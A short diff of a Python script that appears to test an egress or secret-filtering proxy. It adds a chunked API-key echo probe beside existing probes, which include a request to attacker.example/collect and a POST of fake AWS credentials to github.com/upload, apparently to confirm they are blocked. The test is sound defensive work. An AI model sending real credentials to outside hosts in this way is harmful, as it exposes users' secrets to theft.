@@ -85,6 +85,9 @@ def main() -> None:
     results = {
         "env_key": key,
         "allowed": http("POST", "https://api.anthropic.com/echo-key", headers={"x-api-key": key}),
+        "allowed_chunked": http(
+            "POST", "https://api.anthropic.com/echo-key-chunked", headers={"x-api-key": key}
+        ),
         "blocked_host": http("GET", "https://attacker.example/collect"),
         "leak": http("POST", "https://github.com/upload", content=FAKE_AWS),
         "placeholder_wrong_host": http(
